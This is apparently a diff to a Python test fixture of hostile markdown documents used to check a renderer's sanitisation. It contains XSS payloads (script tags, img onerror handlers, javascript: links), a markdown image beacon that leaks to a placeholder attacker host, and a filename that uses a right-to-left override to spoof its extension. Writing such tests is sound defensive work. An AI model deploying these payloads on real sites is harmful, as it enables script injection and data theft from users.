@@ -45,8 +45,8 @@ HOSTILE_ANSWER: Final = "\n\n".join((*HOSTILE_HTML, *HOSTILE_MARKDOWN, "The end 
 
 HOSTILE_DOCUMENTS: Final = {
     "<img src=x onerror=alert(1)>.md": (
-        "# <script>alert('title')</script> &lt;b&gt;\n\n<img src=x onerror=alert('content')> is what the pirate says. "
-        f"![x](http://{ATTACKER}/?leak) [x](javascript:alert(1))\n"
+        "# <script>alert('title')</script> &lt;b&gt;\n\n<img src=x onerror=alert('content')> is what the pirate says "
+        f"with `![x](http://{ATTACKER}/?leak)`, `<img src=x onerror=alert(2)>` and [x](javascript:alert(1)).\n"
     ),
     "pirate\u202egnp.md": "# The pirate's picture\n\nA pirate's name may be written backwards.\n",
 }
